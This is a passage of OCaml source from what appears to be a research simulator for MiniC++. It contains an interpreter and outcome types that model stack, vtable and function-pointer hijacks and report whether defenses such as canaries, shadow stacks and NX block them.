      | Event.Shadow_stack_blocked _ -> Outcome.Defense_blocked "shadow-stack"
      | Event.Bounds_blocked _ -> Outcome.Defense_blocked "bounds-check"
      | _ -> Outcome.Defense_blocked "defense")
    | Fault.Fault f -> Outcome.Crashed (Fault.to_string f)
    | Heap.Corrupted (a, msg) ->
      Outcome.Crashed (Fmt.str "heap corruption at 0x%08x: %s" a msg)
    | Interp.Type_error msg -> Outcome.Crashed (Fmt.str "type error: %s" msg)
  in
  Pna_telemetry.Trace.add_args
    [
      ("steps", Pna_telemetry.Trace.Int rt.Compile.steps);
      ("status", Pna_telemetry.Trace.Str (Fmt.str "%a" Outcome.pp_status status));
    ];
  {
    Outcome.status;
    events = Machine.events m;
    output = Machine.output m;
    steps = rt.Compile.steps;
  }

let execute ?heap_size ?max_steps ?max_depth ?on_stmt ?on_tick ~config
    ?(input_ints = []) ?(input_strings = []) ?(entry = "main") prog =
  match Interp.load ?heap_size ~config prog with
  | m ->
    Machine.set_input ~ints:input_ints ~strings:input_strings m;
    let u = load prog in
    run ?max_steps ?max_depth ?on_stmt ?on_tick m u ~entry
  | exception (Failure msg | Invalid_argument msg) ->
    {
      Outcome.status = Outcome.Crashed (Fmt.str "image load failed: %s" msg);
      events = [];
      output = [];
      steps = 0;
    }
  | exception Event.Security_stop e ->
    let status =
      match e with
      | Event.Out_of_memory _ -> Outcome.Out_of_memory
      | Event.Canary_smashed _ -> Outcome.Stack_smashing_detected
      | _ -> Outcome.Defense_blocked "defense"
    in
    { Outcome.status; events = []; output = []; steps = 0 }
