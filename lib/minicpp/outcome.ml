(** The observable result of running a MiniC++ program.

    This is the unit of measurement for every experiment: attacks are
    judged successful/blocked/crashed by pattern-matching the status, the
    machine's event stream and the program output. *)

type hijack_via = Return_address | Vtable | Function_pointer

let via_name = function
  | Return_address -> "return address"
  | Vtable -> "vtable pointer"
  | Function_pointer -> "function pointer"

type status =
  | Exited of int  (** ran to completion *)
  | Arc_injection of { via : hijack_via; symbol : string; tainted : bool }
      (** control redirected to an existing text symbol (return-to-libc
          style, §3.6.2) *)
  | Code_injection of { via : hijack_via; target : int; tainted : bool }
      (** control transferred into a writable segment: injected code would
          run (§3.6.2) *)
  | Crashed of string  (** segfault / heap corruption / SIGFPE *)
  | Stack_smashing_detected  (** StackGuard terminated the program *)
  | Defense_blocked of string  (** shadow stack / bounds check / NX fired *)
  | Timeout of { steps : int }  (** interpreter budget exhausted: DoS *)
  | Out_of_memory
  | Internal_error of string
      (** the interpreter reached a state its own invariants rule out
          (e.g. a short-circuit operator surviving to strict evaluation);
          a simulator bug, never a verdict about the program *)
  | Recovered of { attempts : int; final_attempt : int; exit_code : int }
      (** the chaos supervisor retried past injected transient faults and
          the program then ran to completion; [attempts] is the total
          number of attempts made and [final_attempt] the 1-based index
          of the one that produced this verdict (equal unless a later
          policy adds non-sequential retries) *)

type t = {
  status : status;
  events : Pna_machine.Event.t list;
  output : string list;
  steps : int;  (** statements + expressions evaluated *)
}

let pp_status ppf = function
  | Exited c -> Fmt.pf ppf "exited(%d)" c
  | Arc_injection h ->
    Fmt.pf ppf "ARC-INJECTION via %s -> %s%s" (via_name h.via) h.symbol
      (if h.tainted then " [tainted]" else "")
  | Code_injection h ->
    Fmt.pf ppf "CODE-INJECTION via %s -> 0x%08x%s" (via_name h.via) h.target
      (if h.tainted then " [tainted]" else "")
  | Crashed msg -> Fmt.pf ppf "CRASH: %s" msg
  | Stack_smashing_detected -> Fmt.string ppf "*** stack smashing detected ***"
  | Defense_blocked d -> Fmt.pf ppf "BLOCKED by %s" d
  | Timeout t -> Fmt.pf ppf "TIMEOUT after %d steps" t.steps
  | Out_of_memory -> Fmt.string ppf "OUT OF MEMORY"
  | Internal_error msg -> Fmt.pf ppf "INTERNAL ERROR: %s" msg
  | Recovered r ->
    Fmt.pf ppf "recovered(%d) after %d attempts (verdict from attempt %d)"
      r.exit_code r.attempts r.final_attempt

let pp ppf t =
  Fmt.pf ppf "@[<v>%a (%d steps)%a@]" pp_status t.status t.steps
    (fun ppf -> function
      | [] -> ()
      | out -> Fmt.pf ppf "@,output: %a" (Fmt.list ~sep:Fmt.sp Fmt.Dump.string) out)
    t.output

let hijacked t =
  match t.status with
  | Arc_injection _ | Code_injection _ -> true
  | _ -> false

let blocked t =
  match t.status with
  | Stack_smashing_detected | Defense_blocked _ -> true
  | _ -> false

let exited_normally t =
  match t.status with Exited _ | Recovered _ -> true | _ -> false
