(** The MiniC++ interpreter.

    Evaluates the AST of {!Ast} against a {!Pna_machine.Machine} process
    image. Semantics follow compiled C++ where it matters to the paper:

    - no bounds checks on array indexing, pointer arithmetic, string
      builtins or placement new;
    - locals are stack-allocated in declaration order at decreasing
      addresses, below the (optional) canary, saved frame pointer and
      return address;
    - virtual calls go through the in-memory vtable pointer;
    - function returns read the return address back from the stack, so a
      corrupted slot redirects control.

    Abnormal terminations surface as {!Outcome.status} values. *)

open Pna_layout
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module Heap = Pna_machine.Heap
module Config = Pna_defense.Config
module Vmem = Pna_vmem.Vmem
module Fault = Pna_vmem.Fault
module Segment = Pna_vmem.Segment

exception Halt of Outcome.status
exception Return_exc of Value.t option
exception Not_lvalue
exception Type_error of string

let type_error fmt = Fmt.kstr (fun s -> raise (Type_error s)) fmt

type state = {
  m : Machine.t;
  prog : Ast.program;
  max_steps : int;
  max_depth : int;
  on_stmt : (string -> Ast.stmt -> unit) option;
  on_tick : (int -> unit) option;
      (* fault-injection hook: called with the step count on every tick; may
         raise [Fault.Fault] to model a spurious trap mid-execution *)
  mutable steps : int;
  mutable depth : int;
  mutable pnew_counter : int;
}

let tick st =
  st.steps <- st.steps + 1;
  (match st.on_tick with Some f -> f st.steps | None -> ());
  if st.steps > st.max_steps then
    raise (Halt (Outcome.Timeout { steps = st.steps }))

let env st = Machine.env st.m
let sizeof st ty = Layout.sizeof (env st) ty

(* ------------------------------------------------------------------ *)
(* Scalar memory access                                                *)

let load_scalar m addr ty =
  let mem = Machine.mem m in
  let tainted = Vmem.range_tainted mem addr (Ctype.scalar_size ty) in
  match ty with
  | Ctype.Double -> Value.float_ ~ty ~tainted (Vmem.read_f64 mem addr)
  | Ctype.Float ->
    Value.float_ ~ty ~tainted
      (Int32.float_of_bits (Int32.of_int (Vmem.read_u32 mem addr)))
  | Ctype.Char ->
    let b = Vmem.read_u8 mem addr in
    Value.int_ ~ty ~tainted (if b land 0x80 <> 0 then b - 0x100 else b)
  | Ctype.Uchar | Ctype.Bool -> Value.int_ ~ty ~tainted (Vmem.read_u8 mem addr)
  | Ctype.Short ->
    let v = Vmem.read_u16 mem addr in
    Value.int_ ~ty ~tainted (if v land 0x8000 <> 0 then v - 0x10000 else v)
  | Ctype.Ushort -> Value.int_ ~ty ~tainted (Vmem.read_u16 mem addr)
  | Ctype.Int | Ctype.Uint -> Value.int_ ~ty ~tainted (Vmem.read_u32 mem addr)
  | Ctype.Ptr _ | Ctype.Fun_ptr ->
    Value.ptr ~ty ~tainted (Vmem.read_u32 mem addr)
  | Ctype.Void | Ctype.Class _ | Ctype.Array _ ->
    type_error "load of non-scalar %a" Ctype.pp ty

let store_scalar m addr ty v =
  let mem = Machine.mem m in
  let v = Value.coerce ty v in
  let taint = v.Value.tainted in
  match ty with
  | Ctype.Double -> Vmem.write_f64 ~taint mem addr (Value.as_float v)
  | Ctype.Float ->
    Vmem.write_u32 ~taint mem addr
      (Int32.to_int (Int32.bits_of_float (Value.as_float v)) land 0xffffffff)
  | Ctype.Char | Ctype.Uchar | Ctype.Bool ->
    Vmem.write_u8 ~taint mem addr (Value.as_bits v land 0xff)
  | Ctype.Short | Ctype.Ushort ->
    Vmem.write_u16 ~taint mem addr (Value.as_bits v land 0xffff)
  | Ctype.Int | Ctype.Uint | Ctype.Ptr _ | Ctype.Fun_ptr ->
    Vmem.write_u32 ~taint mem addr (Value.as_bits v)
  | Ctype.Void | Ctype.Class _ | Ctype.Array _ ->
    type_error "store of non-scalar %a" Ctype.pp ty

(* ------------------------------------------------------------------ *)
(* Control-transfer classification                                     *)

(* What happens when control reaches [target]? A known symbol is an arc
   injection; a writable segment is code injection (unless NX); anything
   else crashes. Takes the machine (not the interpreter state) so the
   bytecode engine shares the exact classification. *)
let classify m ~via ~target ~symbol ~tainted =
  match symbol with
  | Some s -> Outcome.Arc_injection { via; symbol = s; tainted }
  | None -> (
    match Vmem.find_segment (Machine.mem m) target with
    | None -> Outcome.Crashed (Fmt.str "jump to unmapped address 0x%08x" target)
    | Some seg -> (
      match seg.Segment.kind with
      | Segment.Text | Segment.Mmap ->
        Outcome.Crashed (Fmt.str "jump into non-function bytes at 0x%08x" target)
      | Segment.Data | Segment.Bss | Segment.Heap | Segment.Stack ->
        if (Machine.config m).Config.nx_stack then begin
          Machine.emit m (Event.Nx_blocked { addr = target });
          Outcome.Defense_blocked "nx-stack"
        end
        else Outcome.Code_injection { via; target; tainted }))

(* ------------------------------------------------------------------ *)
(* Method resolution                                                   *)

let rec resolve_method env cname meth =
  let c = Layout.find_class env cname in
  match Class_def.find_method c meth with
  | Some m -> m
  | None -> (
    let rec try_bases = function
      | [] -> type_error "class %s has no method %s" cname meth
      | b :: rest -> (
        try resolve_method env b meth with Type_error _ -> try_bases rest)
    in
    try_bases c.Class_def.c_bases)

(* ------------------------------------------------------------------ *)
(* Expression evaluation                                               *)

let rec lvalue st ~func e =
  match e with
  | Ast.Var name -> (
    match Machine.lookup_var st.m name with
    | Some (addr, ty) -> (addr, ty)
    | None -> type_error "unbound variable %s" name)
  | Ast.Field (base, f) -> (
    let addr, ty = lvalue st ~func base in
    match ty with
    | Ctype.Class c ->
      let fld = Layout.field_exn (Layout.of_class (env st) c) f in
      (addr + fld.Layout.f_offset, fld.Layout.f_type)
    | _ -> type_error "field access on non-class %a" Ctype.pp ty)
  | Ast.Arrow (p, f) -> (
    let pv = eval st ~func p in
    match pv.Value.ty with
    | Ctype.Ptr (Ctype.Class c) ->
      let fld = Layout.field_exn (Layout.of_class (env st) c) f in
      (Value.as_bits pv + fld.Layout.f_offset, fld.Layout.f_type)
    | ty -> type_error "-> on non-class-pointer %a" Ctype.pp ty)
  | Ast.Index (base, idx) -> (
    let i = Value.as_int (eval st ~func idx) in
    match try_lvalue st ~func base with
    | Some (addr, Ctype.Array (el, _)) -> (addr + (i * sizeof st el), el)
    | _ -> (
      let pv = eval st ~func base in
      match pv.Value.ty with
      | Ctype.Ptr el -> (Value.as_bits pv + (i * sizeof st el), el)
      | ty -> type_error "index on non-array %a" Ctype.pp ty))
  | Ast.Deref p -> (
    let pv = eval st ~func p in
    match pv.Value.ty with
    | Ctype.Ptr el -> (Value.as_bits pv, el)
    | ty -> type_error "deref of non-pointer %a" Ctype.pp ty)
  | Ast.Cast (ty, e) ->
    let addr, _ = lvalue st ~func e in
    (addr, ty)
  | _ -> raise Not_lvalue

and try_lvalue st ~func e =
  match lvalue st ~func e with
  | r -> Some r
  | exception Not_lvalue -> None

and eval st ~func e : Value.t =
  tick st;
  match e with
  | Ast.Int n -> Value.int_ n
  | Ast.Flt f -> Value.float_ f
  | Ast.Str s ->
    Value.ptr ~ty:(Ctype.Ptr Ctype.Char) (Machine.intern_string st.m s)
  | Ast.Nullptr -> Value.null
  | Ast.Cin -> Value.int_ ~tainted:true (Machine.next_int st.m)
  | Ast.Cin_str ->
    let s = Machine.next_string st.m in
    Value.ptr ~ty:(Ctype.Ptr Ctype.Char) ~tainted:true
      (Machine.intern_string ~tainted:true st.m s)
  | Ast.Sizeof ty -> Value.int_ ~ty:Ctype.Uint (sizeof st ty)
  | Ast.Fun_addr f ->
    Value.ptr ~ty:Ctype.Fun_ptr (Machine.function_addr st.m f)
  | Ast.Addr e ->
    let addr, ty = lvalue st ~func e in
    Value.ptr ~ty:(Ctype.Ptr ty) addr
  | Ast.Var _ | Ast.Field _ | Ast.Arrow _ | Ast.Index _ | Ast.Deref _ -> (
    let addr, ty = lvalue st ~func e in
    match ty with
    | Ctype.Class _ ->
      (* a class lvalue used as a value denotes its address *)
      Value.ptr ~ty:(Ctype.Ptr ty) addr
    | Ctype.Array (el, _) ->
      (* array-to-pointer decay *)
      Value.ptr ~ty:(Ctype.Ptr el) addr
    | _ -> load_scalar st.m addr ty)
  | Ast.Un (op, e) -> eval_unop st ~func op e
  | Ast.Bin (op, a, b) -> eval_binop st ~func op a b
  | Ast.Cast (ty, e) -> (
    let v = eval st ~func e in
    match ty with
    | Ctype.Float | Ctype.Double -> Value.coerce ty v
    | _ -> Value.retype ty (Value.coerce ty v))
  | Ast.Call (name, args) -> (
    match call_function st ~caller:func name (List.map (eval st ~func) args) with
    | Some v -> v
    | None -> Value.int_ 0)
  | Ast.Mcall (obj, meth, args) -> eval_method_call st ~func obj meth args
  | Ast.Fpcall (f, args) -> eval_fun_ptr_call st ~func f args
  | Ast.New (ty, args) -> (
    let size = sizeof st ty in
    let addr = Machine.malloc st.m size in
    (match ty with
    | Ctype.Class cname ->
      Machine.install_vptrs st.m ~addr ~cname;
      construct st ~func ~addr ~cname args
    | _ -> ());
    Value.ptr ~ty:(Ctype.Ptr ty) addr)
  | Ast.New_arr (ty, n) ->
    let count = Value.as_int (eval st ~func n) in
    if count <= 0 then raise (Halt (Outcome.Crashed "std::bad_alloc (array size)"));
    let addr = Machine.malloc st.m (count * sizeof st ty) in
    Value.ptr ~ty:(Ctype.Ptr ty) addr
  | Ast.Pnew (place, ty, args) -> (
    let pv = eval st ~func place in
    let addr = Value.as_bits pv in
    let size = sizeof st ty in
    let cname = match ty with Ctype.Class c -> Some c | _ -> None in
    let align = Layout.alignof (env st) ty in
    ignore
      (Machine.placement_new ?cname ~align
         ?declared:(declared_extent st place pv)
         st.m ~site:(fresh_site st func) ~addr ~size);
    (match cname with
    | Some cname -> construct st ~func ~addr ~cname args
    | None -> ());
    Value.ptr ~ty:(Ctype.Ptr ty) addr)
  | Ast.Pnew_arr (place, ty, n) ->
    let pv = eval st ~func place in
    let addr = Value.as_bits pv in
    let count_v = eval st ~func n in
    let count = Value.as_int count_v in
    let size = count * sizeof st ty in
    if size < 0 then raise (Halt (Outcome.Crashed "std::bad_alloc (array size)"));
    let align = Layout.alignof (env st) ty in
    ignore
      (Machine.placement_new ~align
         ?declared:(declared_extent st place pv)
         st.m ~site:(fresh_site st func) ~addr ~size);
    Value.ptr ~ty:(Ctype.Ptr ty) addr

(* The static extent of the storage a placement's place expression names:
   only a literal address-of — [new (&player.stud1) ...] — names an
   object with a definite size; a pointer value may point anywhere into a
   larger arena. Feeds the sanitizer's shadow geometry. *)
and declared_extent st place (pv : Value.t) =
  match (place, pv.Value.ty) with
  | Ast.Addr _, Ctype.Ptr ((Ctype.Class _ | Ctype.Array _) as pt) ->
    Some (sizeof st pt)
  | _ -> None

and fresh_site st func =
  st.pnew_counter <- st.pnew_counter + 1;
  Fmt.str "%s#pnew%d" func st.pnew_counter

and eval_unop st ~func op e =
  match op with
  | Ast.Neg ->
    let v = eval st ~func e in
    if Ctype.is_float v.Value.ty then
      Value.float_ ~ty:v.Value.ty ~tainted:v.Value.tainted (-.Value.as_float v)
    else Value.int_ ~ty:v.Value.ty ~tainted:v.Value.tainted (-Value.as_int v)
  | Ast.Not ->
    let v = eval st ~func e in
    Value.int_ ~ty:Ctype.Bool ~tainted:v.Value.tainted
      (if Value.truthy v then 0 else 1)
  | Ast.Preinc | Ast.Predec ->
    let addr, ty = lvalue st ~func e in
    let v = load_scalar st.m addr ty in
    let delta = if op = Ast.Preinc then 1 else -1 in
    let v' =
      match ty with
      | Ctype.Ptr el ->
        Value.ptr ~ty ~tainted:v.Value.tainted
          (Value.as_bits v + (delta * sizeof st el))
      | t when Ctype.is_float t ->
        Value.float_ ~ty ~tainted:v.Value.tainted
          (Value.as_float v +. float_of_int delta)
      | _ -> Value.int_ ~ty ~tainted:v.Value.tainted (Value.as_int v + delta)
    in
    store_scalar st.m addr ty v';
    v'

and eval_binop st ~func op a b =
  match op with
  | Ast.And ->
    let va = eval st ~func a in
    if not (Value.truthy va) then Value.int_ ~ty:Ctype.Bool ~tainted:va.Value.tainted 0
    else
      let vb = eval st ~func b in
      Value.int_ ~ty:Ctype.Bool
        ~tainted:(va.Value.tainted || vb.Value.tainted)
        (if Value.truthy vb then 1 else 0)
  | Ast.Or ->
    let va = eval st ~func a in
    if Value.truthy va then Value.int_ ~ty:Ctype.Bool ~tainted:va.Value.tainted 1
    else
      let vb = eval st ~func b in
      Value.int_ ~ty:Ctype.Bool
        ~tainted:(va.Value.tainted || vb.Value.tainted)
        (if Value.truthy vb then 1 else 0)
  | _ -> (
    let va = eval st ~func a in
    let vb = eval st ~func b in
    let tainted = va.Value.tainted || vb.Value.tainted in
    let bool_ c = Value.int_ ~ty:Ctype.Bool ~tainted (if c then 1 else 0) in
    match (op, va.Value.ty, vb.Value.ty) with
    (* pointer arithmetic *)
    | Ast.Add, Ctype.Ptr el, _ when Ctype.is_integer vb.Value.ty ->
      Value.ptr ~ty:va.Value.ty ~tainted
        (Value.as_bits va + (Value.as_int vb * sizeof st el))
    | Ast.Add, _, Ctype.Ptr el when Ctype.is_integer va.Value.ty ->
      Value.ptr ~ty:vb.Value.ty ~tainted
        (Value.as_bits vb + (Value.as_int va * sizeof st el))
    | Ast.Sub, Ctype.Ptr el, _ when Ctype.is_integer vb.Value.ty ->
      Value.ptr ~ty:va.Value.ty ~tainted
        (Value.as_bits va - (Value.as_int vb * sizeof st el))
    | Ast.Sub, Ctype.Ptr el, Ctype.Ptr _ ->
      Value.int_ ~tainted ((Value.as_bits va - Value.as_bits vb) / sizeof st el)
    | (Ast.Eq | Ast.Ne), (Ctype.Ptr _ | Ctype.Fun_ptr), _
    | (Ast.Eq | Ast.Ne), _, (Ctype.Ptr _ | Ctype.Fun_ptr) ->
      bool_
        (if op = Ast.Eq then Value.as_bits va = Value.as_bits vb
         else Value.as_bits va <> Value.as_bits vb)
    | _ when Ctype.is_float va.Value.ty || Ctype.is_float vb.Value.ty -> (
      let x = Value.as_float va and y = Value.as_float vb in
      let flt v = Value.float_ ~tainted v in
      match op with
      | Ast.Add -> flt (x +. y)
      | Ast.Sub -> flt (x -. y)
      | Ast.Mul -> flt (x *. y)
      | Ast.Div -> flt (x /. y)
      | Ast.Lt -> bool_ (x < y)
      | Ast.Le -> bool_ (x <= y)
      | Ast.Gt -> bool_ (x > y)
      | Ast.Ge -> bool_ (x >= y)
      | Ast.Eq -> bool_ (x = y)
      | Ast.Ne -> bool_ (x <> y)
      | _ -> type_error "invalid float operation")
    | _ -> (
      (* 32-bit integer arithmetic: unsigned if either side is unsigned,
         matching C's usual arithmetic conversions — this is what makes the
         paper's "n might contain a very large value" underflow real *)
      let unsigned =
        va.Value.ty = Ctype.Uint || vb.Value.ty = Ctype.Uint
      in
      let x = if unsigned then Value.as_bits va else Value.as_int va in
      let y = if unsigned then Value.as_bits vb else Value.as_int vb in
      let ty = if unsigned then Ctype.Uint else Ctype.Int in
      let num v = Value.int_ ~ty ~tainted v in
      match op with
      | Ast.Add -> num (x + y)
      | Ast.Sub -> num (x - y)
      | Ast.Mul -> num (x * y)
      | Ast.Div ->
        if y = 0 then raise (Halt (Outcome.Crashed "SIGFPE: division by zero"))
        else num (x / y)
      | Ast.Mod ->
        if y = 0 then raise (Halt (Outcome.Crashed "SIGFPE: division by zero"))
        else num (x mod y)
      | Ast.Lt -> bool_ (x < y)
      | Ast.Le -> bool_ (x <= y)
      | Ast.Gt -> bool_ (x > y)
      | Ast.Ge -> bool_ (x >= y)
      | Ast.Eq -> bool_ (x = y)
      | Ast.Ne -> bool_ (x <> y)
      | Ast.Band -> num (x land y)
      | Ast.Bor -> num (x lor y)
      | Ast.Shl -> num (x lsl (y land 31))
      | Ast.Shr -> num ((x land 0xffffffff) lsr (y land 31))
      | Ast.And | Ast.Or ->
        (* eval_expr lowers these to short-circuit control flow before
           operand evaluation; reaching strict evaluation is a simulator
           bug, reported as such rather than an untyped assert. *)
        raise
          (Halt
             (Outcome.Internal_error
                "logical operator reached strict evaluation"))))

(* Method call: [obj] is a class lvalue or a pointer to class. Virtual
   methods dispatch through the vtable pointer stored in the object;
   non-virtual ones resolve statically. *)
and eval_method_call st ~func obj meth args =
  let obj_addr, cname =
    match try_lvalue st ~func obj with
    | Some (addr, Ctype.Class c) -> (addr, c)
    | _ -> (
      let pv = eval st ~func obj in
      match pv.Value.ty with
      | Ctype.Ptr (Ctype.Class c) -> (Value.as_bits pv, c)
      | ty -> type_error "method call on %a" Ctype.pp ty)
  in
  let mdef = resolve_method (env st) cname meth in
  let this = Value.ptr ~ty:(Ctype.Ptr (Ctype.Class cname)) obj_addr in
  let argv = List.map (eval st ~func) args in
  if mdef.Class_def.m_virtual then begin
    match Machine.dispatch st.m ~obj_addr ~static_class:cname ~meth with
    | Machine.Virtual_ok impl -> (
      match call_function st ~caller:func impl (this :: argv) with
      | Some v -> v
      | None -> Value.int_ 0)
    | Machine.Virtual_hijacked { target; symbol; tainted } ->
      raise (Halt (classify st.m ~via:Outcome.Vtable ~target ~symbol ~tainted))
  end
  else
    match call_function st ~caller:func mdef.Class_def.m_impl (this :: argv) with
    | Some v -> v
    | None -> Value.int_ 0

(* Call through a function-pointer value. A tainted pointer is a §3.9
   subterfuge: control goes wherever the attacker wrote. *)
and eval_fun_ptr_call st ~func f args =
  let fv = eval st ~func f in
  let target = Value.as_bits fv in
  let tainted = fv.Value.tainted in
  if target = 0 then
    raise (Halt (Outcome.Crashed "call through null function pointer"));
  let symbol = Machine.symbol_at st.m target in
  if tainted then begin
    Machine.emit st.m
      (Event.Fun_ptr_hijacked { name = "<indirect>"; actual = target; symbol; tainted });
    raise (Halt (classify st.m ~via:Outcome.Function_pointer ~target ~symbol ~tainted))
  end
  else
    match symbol with
    | Some s when Ast.find_func st.prog s <> None -> (
      let argv = List.map (eval st ~func) args in
      match call_function st ~caller:func s argv with
      | Some v -> v
      | None -> Value.int_ 0)
    | Some s ->
      raise
        (Halt (Outcome.Arc_injection { via = Outcome.Function_pointer; symbol = s; tainted }))
    | None ->
      raise (Halt (classify st.m ~via:Outcome.Function_pointer ~target ~symbol ~tainted))

(* Run a constructor body at [addr]. With no user-defined constructor, one
   pointer argument of class type invokes the implicit shallow copy
   constructor (memberwise copy — the §3.2 vector). *)
and construct st ~func ~addr ~cname args =
  match Ast.find_ctor st.prog cname ~arity:(List.length args) with
  | Some ctor ->
    let this = Value.ptr ~ty:(Ctype.Ptr (Ctype.Class cname)) addr in
    let argv = List.map (eval st ~func) args in
    ignore (invoke st ~caller:func ctor (this :: argv))
  | None -> (
    match args with
    | [] -> ()
    | [ arg ] -> (
      let v = eval st ~func arg in
      match v.Value.ty with
      | Ctype.Ptr (Ctype.Class _) | Ctype.Ptr Ctype.Void ->
        (* implicit copy: memberwise = byte copy of this class' footprint,
           then the vptr is re-established for the constructed type *)
        let size = sizeof st (Ctype.Class cname) in
        Vmem.blit ~tag:"copy-ctor" (Machine.mem st.m) ~src:(Value.as_bits v)
          ~dst:addr ~len:size;
        Machine.install_vptrs st.m ~addr ~cname
      | ty -> type_error "no constructor %s(%a)" cname Ctype.pp ty)
    | _ -> type_error "no %d-argument constructor for %s" (List.length args) cname)

(* ------------------------------------------------------------------ *)
(* Calls                                                               *)

and call_function st ~caller name argv =
  match builtin st.m name argv with
  | Some r -> r
  | None -> (
    match Ast.find_func st.prog name with
    | Some fn -> invoke st ~caller fn argv
    | None -> type_error "call to undefined function %s" name)

and invoke st ~caller fn argv =
  if st.depth >= st.max_depth then
    raise (Halt (Outcome.Crashed "stack overflow (call depth)"));
  let name = fn.Ast.fn_name in
  (* the legitimate return address: just past the call site in the caller *)
  let ret_to = Machine.function_addr st.m caller + 5 in
  ignore (Machine.push_frame st.m ~func:name ~ret_to);
  st.depth <- st.depth + 1;
  (try
     List.iter2
       (fun (pname, pty) v ->
         let addr = Machine.alloc_local st.m ~name:pname ~ty:pty in
         store_scalar st.m addr pty v)
       fn.Ast.fn_params argv
   with Invalid_argument _ ->
     type_error "arity mismatch calling %s" name);
  let result =
    match exec_block st ~func:name fn.Ast.fn_body with
    | () -> None
    | exception Return_exc v -> v
  in
  st.depth <- st.depth - 1;
  match Machine.pop_frame st.m with
  | Machine.Returned -> result
  | Machine.Hijacked { target; symbol; tainted } ->
    raise (Halt (classify st.m ~via:Outcome.Return_address ~target ~symbol ~tainted))

(* ------------------------------------------------------------------ *)
(* Builtins                                                            *)

and builtin m name argv =
  let mem = Machine.mem m in
  let arg i = List.nth argv i in
  let addr i = Value.as_bits (arg i) in
  match (name, List.length argv) with
  | "strlen", 1 ->
    Some (Some (Value.int_ (String.length (Vmem.read_cstring mem (addr 0)))))
  | "strcpy", 2 ->
    let s = Vmem.read_cstring mem (addr 1) in
    let n = String.length s + 1 in
    Vmem.blit ~tag:"strcpy" mem ~src:(addr 1) ~dst:(addr 0) ~len:n;
    Some (Some (arg 0))
  | "strncpy", 3 ->
    (* size_t semantics: a negative count is a huge unsigned count *)
    let n = Value.as_bits (arg 2) in
    let s = Vmem.read_cstring ~max_len:n mem (addr 1) in
    let copy_len = min n (String.length s) in
    Vmem.blit ~tag:"strncpy" mem ~src:(addr 1) ~dst:(addr 0) ~len:copy_len;
    if copy_len < n then
      Vmem.fill ~tag:"strncpy-pad" mem ~dst:(addr 0 + copy_len) ~len:(n - copy_len) 0;
    Some (Some (arg 0))
  | "memcpy", 3 ->
    Vmem.blit ~tag:"memcpy" mem ~src:(addr 1) ~dst:(addr 0) ~len:(Value.as_bits (arg 2));
    Some (Some (arg 0))
  | "memset", 3 ->
    Vmem.fill ~tag:"memset" mem ~dst:(addr 0) ~len:(Value.as_bits (arg 2))
      (Value.as_bits (arg 1) land 0xff);
    Some (Some (arg 0))
  | "__arena_size", 1 ->
    (* libsafe-style introspection: how many bytes does the allocation
       backing this address still have? 0 when unknown. The hardener emits
       calls to this intrinsic (§5.1 bounds checking as source repair). *)
    let remaining =
      Pna_machine.Arena.remaining (Machine.arenas m) (addr 0)
    in
    Some (Some (Value.int_ (Option.value remaining ~default:0)))
  | "recv", 2 ->
    (* read one raw datagram from the attacker into [dst], up to [maxlen]
       bytes; unlike cin_str the payload may contain NULs. Returns the
       number of bytes written. Every byte is tainted. *)
    let payload = Machine.next_string m in
    let maxlen = Value.as_bits (arg 1) in
    let len = min maxlen (String.length payload) in
    Vmem.write_bytes ~tag:"recv" ~taint:true mem (addr 0)
      (String.sub payload 0 len);
    Some (Some (Value.int_ len))
  | "store", 2 ->
    (* model of "send this memory to persistent storage / the network":
       emits the raw bytes to program output where the driver can observe
       leaked secrets (§4.3) *)
    Machine.print m (Vmem.read_bytes mem (addr 0) (Value.as_bits (arg 1)));
    Some None
  | "exit", 1 -> raise (Halt (Outcome.Exited (Value.as_int (arg 0))))
  | _ -> None

(* ------------------------------------------------------------------ *)
(* Statements                                                          *)

and exec_block st ~func body = List.iter (exec st ~func) body

and exec st ~func s =
  tick st;
  (match st.on_stmt with Some f -> f func s | None -> ());
  match s with
  | Ast.Decl (name, ty, init) -> (
    let addr = Machine.alloc_local st.m ~name ~ty in
    match init with
    | None -> ()
    | Some e -> assign_into st ~func (addr, ty) e)
  | Ast.Decl_obj (name, cname, args) ->
    let ty = Ctype.Class cname in
    let addr = Machine.alloc_local st.m ~name ~ty in
    Machine.install_vptrs st.m ~addr ~cname;
    construct st ~func ~addr ~cname args
  | Ast.Assign (lv, e) ->
    let addr, ty = lvalue st ~func lv in
    assign_into st ~func (addr, ty) e
  | Ast.Expr e -> ignore (eval st ~func e)
  | Ast.If (c, t, f) ->
    if Value.truthy (eval st ~func c) then exec_block st ~func t
    else exec_block st ~func f
  | Ast.While (c, body) ->
    let rec loop () =
      if Value.truthy (eval st ~func c) then begin
        exec_block st ~func body;
        loop ()
      end
    in
    loop ()
  | Ast.For (init, c, step, body) ->
    Option.iter (exec st ~func) init;
    let rec loop () =
      if Value.truthy (eval st ~func c) then begin
        exec_block st ~func body;
        Option.iter (exec st ~func) step;
        loop ()
      end
    in
    loop ()
  | Ast.Return e -> raise (Return_exc (Option.map (eval st ~func) e))
  | Ast.Delete e -> Machine.free st.m (Value.as_bits (eval st ~func e))
  | Ast.Delete_placed (e, ty) ->
    Machine.delete_placed st.m
      (Value.as_bits (eval st ~func e))
      ~placed_size:(sizeof st ty)
  | Ast.Cout items ->
    List.iter
      (fun item ->
        match item with
        | Ast.Str s -> Machine.print st.m s
        | e -> (
          let v = eval st ~func e in
          match v.Value.ty with
          | Ctype.Ptr Ctype.Char ->
            Machine.print st.m (Vmem.read_cstring (Machine.mem st.m) (Value.as_bits v))
          | _ -> Machine.print st.m (Value.to_string v)))
      items

(* Store [e] into the location [(addr, ty)]. Class-typed assignment is a
   byte copy (the compiler-generated assignment operator). *)
and assign_into st ~func (addr, ty) e =
  match ty with
  | Ctype.Class _ ->
    let v = eval st ~func e in
    (match v.Value.ty with
    | Ctype.Ptr (Ctype.Class _) | Ctype.Ptr Ctype.Void ->
      Vmem.blit ~tag:"class-assign" (Machine.mem st.m) ~src:(Value.as_bits v)
        ~dst:addr ~len:(sizeof st ty)
    | vty -> type_error "cannot assign %a to class lvalue" Ctype.pp vty)
  | Ctype.Array (Ctype.Char, n) -> (
    (* char array initialization from a string pointer *)
    let v = eval st ~func e in
    match v.Value.ty with
    | Ctype.Ptr Ctype.Char ->
      let s = Vmem.read_cstring (Machine.mem st.m) (Value.as_bits v) in
      let len = min n (String.length s + 1) in
      Vmem.blit ~tag:"arr-init" (Machine.mem st.m) ~src:(Value.as_bits v)
        ~dst:addr ~len
    | vty -> type_error "cannot initialize char array from %a" Ctype.pp vty)
  | _ ->
    let v = eval st ~func e in
